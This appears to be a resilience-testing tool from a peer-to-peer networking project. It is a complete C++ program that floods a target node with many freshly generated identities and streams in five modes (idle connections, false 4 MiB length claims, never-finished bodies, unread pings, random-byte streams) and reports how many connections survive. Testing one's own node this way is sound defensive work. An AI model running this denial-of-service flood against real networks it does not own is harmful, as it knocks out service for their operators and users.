// SPDX-License-Identifier: MIT
// An attacker with as many identities as it likes: flood ADDRESS MODE PEERS STREAMS SECONDS
//   idle    authenticated connections, nothing on them
//   claims  requests that announce 4 MiB and bring a few bytes
//   bodies  requests that bring most of what they announce, and never the last byte
//   unread  pings whose answers are never read, as fast as they are taken
//   rubbish streams of random bytes, opened again as soon as they are reset
// Prints how many connections stood at the end.
#include <cstdio>
#include <cstdlib>
#include <memory>
#include <string>
#include <vector>

#include "core/base/scope.hpp"
#include "core/base/system_runtime.hpp"
#include "core/base/text.hpp"
#include "core/crypto/keys.hpp"
#include "core/net/address_book.hpp"
#include "core/net/ping.hpp"
#include "core/net/swarm.hpp"
#include "core/wire/varint.hpp"

using namespace waggle;

namespace {

struct Plan {
  wire::Multiaddr address;
  std::string mode;
  std::size_t streams = 0;
  TimePoint end{};
};

constexpr std::size_t kAnnounced = 4u << 20;
constexpr std::string_view kCall = "DHTProtocol.rpc_find";

Co<void> attack(Runtime& runtime, net::Swarm& swarm, PeerId victim, Plan const& plan) {
  bool const ping = plan.mode == "unread";
  auto const protocol = ping ? net::ping::kProtocol : kCall;
  Bytes junk(64u << 10);
  runtime.fill_random(junk);
  while (runtime.now() < plan.end) {
    auto stream = co_await swarm.open(victim, protocol, plan.end);
    if (!stream) {
      auto const slept = co_await runtime.sleep_for(std::chrono::milliseconds(200));
      if (!slept || !swarm.connected(victim)) co_return;
      continue;
    }
    Bytes head;
    if (plan.mode == "claims" || plan.mode == "bodies") wire::append_varint(head, kAnnounced);
    append(head, ByteView(junk).first(16));
    auto written = co_await (*stream)->write(head, plan.end);
    std::size_t const bytes = plan.mode == "bodies" ? kAnnounced - 1024 : ping ? SIZE_MAX : 0;
    for (std::size_t sent = 0; written && sent + junk.size() < bytes; sent += junk.size())
      written = co_await (*stream)->write(junk, plan.end);
    if (plan.mode == "rubbish") {
      (void)co_await (*stream)->write(junk, plan.end);
      (void)co_await runtime.sleep_for(std::chrono::milliseconds(20));
      continue;
    }
    // Held for as long as the victim lets us.
    std::array<std::byte, 1> byte{};
    if (!ping && written) (void)co_await (*stream)->read_some(byte, plan.end);
    auto const slept = co_await runtime.sleep_for(std::chrono::milliseconds(100));
    if (!slept) co_return;
  }
}

Co<void> one_identity(Runtime& runtime, Plan const& plan, std::size_t& standing) {
  auto const identity = crypto::Identity::generate();
  net::AddressBook book(runtime);
  net::SwarmOptions options;
  options.listen_host = "";
  net::Swarm swarm(runtime, identity, book, options);
  auto const victim = co_await swarm.dial(plan.address, runtime.now() + std::chrono::seconds(10));
  if (victim) {
    Scope scope(runtime);
    for (std::size_t i = 0; i < plan.streams; ++i)
      scope.spawn("stream", attack(runtime, swarm, *victim, plan));
    (void)co_await runtime.sleep_until(plan.end);
    if (swarm.connected(*victim)) ++standing;
    co_await scope.close();
  }
  co_await swarm.close();
}

Co<void> all(Runtime& runtime, Plan const& plan, std::size_t peers, std::size_t& standing) {
  Scope scope(runtime);
  for (std::size_t i = 0; i < peers; ++i) {
    scope.spawn("identity", one_identity(runtime, plan, standing));
    // An honest machine cannot shake hands faster, so a faster attacker is only refused more.
    auto const slept = co_await runtime.sleep_for(std::chrono::milliseconds(4));
    if (!slept) break;
  }
  (void)co_await scope.join();
  co_await scope.close();
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 6) return 2;
  auto address = wire::Multiaddr::parse(argv[1]);
  if (!address) return 2;
  SystemRuntime runtime;
  Plan plan;
  plan.address = *std::move(address);
  plan.mode = argv[2];
  plan.streams = static_cast<std::size_t>(std::atoll(argv[4]));
  plan.end = runtime.now() + seconds(std::atof(argv[5]));
  std::size_t standing = 0;
  Scope root(runtime);
  root.spawn("flood", all(runtime, plan, static_cast<std::size_t>(std::atoll(argv[3])), standing));
  runtime.run_to_completion();
  std::printf("%zu\n", standing);
  return 0;
}
